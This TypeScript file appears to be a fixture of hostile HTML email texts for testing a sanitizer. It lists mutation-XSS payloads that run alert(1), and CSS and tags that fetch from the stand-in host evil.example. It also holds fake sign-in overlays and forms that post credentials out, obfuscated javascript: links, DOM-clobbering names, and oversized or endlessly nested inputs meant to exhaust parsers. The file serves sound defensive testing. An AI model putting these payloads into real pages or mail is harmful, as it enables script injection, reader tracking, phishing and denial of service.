// Texts of mail that mean harm and stand in no sanitizer's own tests: each with what it tries.

const EVIL = "https://evil.example";
/** Letters of one word that no line holds. */
const WORD = 100_000;
/** Deeper than any parser nests, and than a stack of calls would go. */
const DEEP = 50_000;
/** What a text may have at most is far less. */
const LONG = 5_000_000;

/** Breaks out of an element by being parsed another way the second time. */
const TAKEN_APART_TWICE: [string, string][] = [
  ["math, mtext, table, mglyph, style", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>`],
  ["svg, foreignObject, style", `<svg></p><foreignobject><style><!--</style><img src=x onerror=alert(1)>--></style></foreignobject></svg>after`],
  ["svg, desc, template", `<svg><desc><template><style><a title="</style><img src onerror=alert(1)>"></template></desc></svg>after`],
  ["noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>after`],
  ["template in a template", `<template><template shadowrootmode=open><img src=x onerror=alert(1)></template></template><div><template shadowrootmode="open"><style>:host{position:fixed}</style><img src="${EVIL}/t.png" onerror=alert(1)></template>after</div>`],
  ["annotation-xml", `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style><img src=x onerror=alert(1)></annotation-xml></math>after`],
  ["comments that end elsewhere", `<!--!><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>after`],
  ["xmp, plaintext, noembed", `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>after<plaintext></div><script>alert(1)</script>`],
  ["select and keygen", `<select><option><style></option></select><img src=x onerror=alert(1)></style>after`],
  ["nested links and tables", `<a><table><a href="javascript:alert(1)"><tr><td><a href=" javascript:alert(1)">x</a></table></a>`],
  ["use, animate, set", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/><a><animate attributeName=href values="javascript:alert(1)"/><set attributeName=onmouseover to=alert(1) /><text y=20>press</text></a><image href="${EVIL}/svg.png"/></svg>after`],
];

/** Styles that fetch, tell, cover or hide. */
const STYLED: [string, string][] = [
  ["over everything", `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h1>Sign in again</h1></div><div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px">over</div><div style="position:sticky;top:0">sticks</div>`],
  ["a sheet that fetches", `<style>@import "${EVIL}/a.css";@font-face{font-family:x;src:url(${EVIL}/f.woff2)}*{font-family:x;background:url(${EVIL}/b.png)!important}:has(a){background:image-set("${EVIL}/c.png" 1x)}a[href^="https://a"]{background:url(${EVIL}/a)}@keyframes k{to{left:0}}</style><p>after</p>`],
  ["attributes that fetch", `<p style="background:u\\72l(${EVIL}/d.png)">1</p><p style="-webkit-mask:url(${EVIL}/e.png);mask-image:url(${EVIL}/e.png)">2</p><p style="list-style:url(${EVIL}/g.png);cursor:url(${EVIL}/h.cur),auto">3</p><p style="--x:url(${EVIL}/i.png);background:var(--x);color:var(--x)">4</p><p style="border-image:url(${EVIL}/j.png) 30;border-image-source:-webkit-image-set(url(${EVIL}/j.png) 1x);shape-outside:url(${EVIL}/k.png)">5</p><p style="content:url(${EVIL}/l.png);filter:url(${EVIL}/m.svg#f);clip-path:url(${EVIL}/n.svg#f)">6</p><p style="background-color:red;background-image:cross-fade(url(${EVIL}/o.png),url(${EVIL}/o.png))">7</p>`],
  ["a sheet in disguise", `<STYLE\n>p{background:url(${EVIL}/p.png)}</STYLE\n><style/x>p{background:url(${EVIL}/q.png)}</style><svg><style>p{background:url(${EVIL}/r.png)}</style></svg><p>after</p>`],
  ["moved away", `<p style="margin-left:calc(-99999px);margin-top:calc(0px - 400px)">calc</p><p style="margin:0 0 -0.5em -9e9px">exponent</p><p style="text-indent:-99999px">indent</p><p style="letter-spacing:-20px">letters</p><p style="transform:translate(-900px,-900px);translate:-900px;rotate:90deg;zoom:90">moved</p>`],
  ["as large as can be", `<p style="font-size:99999px">W</p><p style="padding:999999px">p</p><p style="border:99999px solid red">b</p><p style="width:9999999px;max-width:none">w</p><p style="line-height:99999">l</p><table style="width:100000px;max-width:100000px" width="9999"><tr><td style="width:50000px">t</table><hr size="9999" width="9999"><font size="7" style="letter-spacing:9999px">wide</font>`],
  ["animation and transition", `<p style="animation:k 1s infinite;transition:all 9s;animation-name:k">a</p><marquee onstart=alert(1)>m</marquee><blink>b</blink>`],
];

/** Elements and attributes that fetch, send or go elsewhere. */
const FETCHING: [string, string][] = [
  ["pictures in every spelling", `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x" sizes=1px><picture><source srcset="${EVIL}/3.png"><img src="${EVIL}/4.png" loading=eager></picture><img lowsrc="${EVIL}/5.png" dynsrc="${EVIL}/6.avi"><image src="${EVIL}/7.png"><input type=image src="${EVIL}/8.png"><img src="//evil.example/9.png"><img src="\\\\evil.example\\10.png"><img src="htt\nps://evil.example/11.png"><img src=" HTTPS://evil.example/12.png"><img src="http://evil.example/13.png"><img src="/api/data/v9.2/WhoAmI"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}/14.png'/></svg>"><img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="blob:https://evil.example/15"><img src="data:text/html,x">`],
  ["backgrounds in attributes", `<body background="${EVIL}/1.png"><table background="${EVIL}/2.png"><tr background="${EVIL}/3.png"><td background="${EVIL}/4.png">t</td></tr></table></body>`],
  ["media", `<video poster="${EVIL}/1.png" autoplay muted><source src="${EVIL}/2.mp4"><track src="${EVIL}/3.vtt" default></video><audio autoplay src="${EVIL}/4.mp3"></audio><bgsound src="${EVIL}/5.mp3">after`],
  ["hints for the browser", `<link rel=preload as=image href="${EVIL}/1.png"><link rel=prefetch href="${EVIL}/2"><link rel=preconnect href="${EVIL}"><link rel=dns-prefetch href="//evil.example"><link rel=modulepreload href="${EVIL}/3.js"><link rel=icon href="${EVIL}/4.ico"><link rel=manifest href="${EVIL}/5.json"><link rel=stylesheet href="${EVIL}/6.css"><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=refresh content="0;url=${EVIL}"><meta http-equiv=set-cookie content=a=b><meta name=referrer content=unsafe-url><base href="${EVIL}/" target=_top><script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/7"]}]}</script>after`],
  ["frames and objects", `<iframe srcdoc="<script>top.alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe><frameset onload=alert(1)><frame src="${EVIL}"></frameset><object data="${EVIL}/1.swf" type="text/html"><param name=src value="${EVIL}"></object><embed src="${EVIL}/2.svg"><applet code=x archive="${EVIL}/3.jar"></applet><portal src="${EVIL}"></portal><fencedframe></fencedframe>after`],
  ["forms that send", `<form action="${EVIL}/1" method=post id=f target=_top><input name=user autofocus onfocus=alert(1)><input type=password name=p><button formaction="${EVIL}/2" formtarget=_top>Sign in</button><input type=submit formaction="javascript:alert(1)"><isindex action="${EVIL}/3"></form><button form=f popovertarget=x>go</button><div popover id=x>pop</div><dialog open>dialog<form method=dialog><button>ok</button></form></dialog>after`],
  ["links that run or tell", ["javascript:alert(1)", " java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript&colon;alert(1)", "&#x01;javascript:alert(1)", "JaVaScRiPt&#58;alert(1)", "\u00a0javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "blob:https://evil.example/x", "vbscript:msgbox(1)", "view-source:https://a.example", "file:///etc/passwd", "ms-word:ofe|u|https://evil.example/x.docx", "//evil.example", "/desk/", "?x", "#pane", "https:evil.example", "mailto:a@b.example?bcc=spy@evil.example&body=x", "tel:+1"].map((to, at) => `<a href="${to}" ping="${EVIL}/ping" target=_top rel=opener download attributionsrc="${EVIL}/a">link ${at}</a>`).join(" ") + `<map name=m><area shape=rect coords=0,0,9999,9999 href="javascript:alert(1)"></map><img usemap=#m>`],
];

/** Names that stand for something in a page, and texts that are too much. */
const ODD: [string, string][] = [
  ["names of the page's own", ["body", "head", "forms", "config", "pane", "regarding", "Office", "cookie", "location", "documentElement", "createElement", "getElementById", "attributes", "parentNode", "nodeName", "__proto__", "defaultView", "boot"].map((name) => `<img name="${name}" id="${name}"><a id="${name}" name="${name}" href="https://a.example/">a</a><form name="${name}" id="${name}"><input name="attributes"><input id="parentNode" name="nodeName"></form><div class="${name} card notice" id="${name}" slot="${name}" is="x-a" part="x" role="alert" aria-live="assertive" tabindex="1" accesskey="t" contenteditable data-act="track">d</div>`).join("")],
  ["one word without an end", `<p>${"W".repeat(WORD)}</p><pre>${"x".repeat(WORD)}</pre><p>${"\u{1f468}\u200d".repeat(20_000)}</p><p style="white-space:nowrap">${"no break ".repeat(2_000)}</p>`],
  ["a table wider than a wall", `<table border=1>${`<tr>${"<td nowrap width=900>cell</td>".repeat(400)}</tr>`.repeat(3)}</table><table width="99999" cellpadding="9999" cellspacing="9999"><tr><td colspan="99999" rowspan="99999">c</table>`],
  ["deeper than a stack", `${"<div>".repeat(DEEP)}deep${"</div>".repeat(DEEP)}`],
  ["deep and never closed", `${"<b><i><font color=red><table><tr><td>".repeat(4_000)}deep`],
  ["many attributes", `<p ${Array.from({ length: 20_000 }, (_, n) => `a${n}=1`).join(" ")} style="${"color:red;".repeat(20_000)}">many</p>`],
  ["signs that are none", `<p>\u0000\u0001\u0008\u001b[31m\ufeff\u200b\u200c\u200d\u2060\ufffe after \u202e gnp.eciovni \u2066\u2067 \u{e0041}\u{e0042}</p><p>&#0;&#xD800;&#x110000;&#x80;&bogus;</p><a href="java\u0000script:alert(1)">nul</a><img src=x one\u0000rror=alert(1)><scr\u0000ipt>alert(1)</scr\u0000ipt>`],
  ["half a tag", `text before<p>half<a href="https://a.example/" title="never closed <img src=x onerror=alert(1)>`],
  ["a sheet that never ends, again and again", "text before" + "<style>".repeat(140_000)],
  ["a script that never ends, again and again", "text before" + "<script x ".repeat(99_000)],
  ["a handler behind a handler", `<p ${" onx".repeat(100_000)}=1>text</p>`],
  ["a handler and blanks", `<p on${"x".repeat(40_000)}${" ".repeat(400_000)}>text</p>`],
  ["five megabytes of words", `<p>${"five megabytes ".repeat(LONG / 15)}</p>`],
  ["five megabytes of elements", "<p>a<b>b</b></p>".repeat(LONG / 16)],
  ["five megabytes of links and styles", `<a href="https://a.example/" style="color:red;font-weight:bold;margin:1px">b</a> `.repeat(LONG / 80)],
  ["a picture of a megabyte, a hundred times", `<p>pictures</p>${`<img src="data:image/png;base64,${"A".repeat(9_000)}">`.repeat(100)}`],
];

/** What each tries, and its text. */
export const HOSTILE_TEXTS: [string, string][] = [...TAKEN_APART_TWICE, ...STYLED, ...FETCHING, ...ODD];
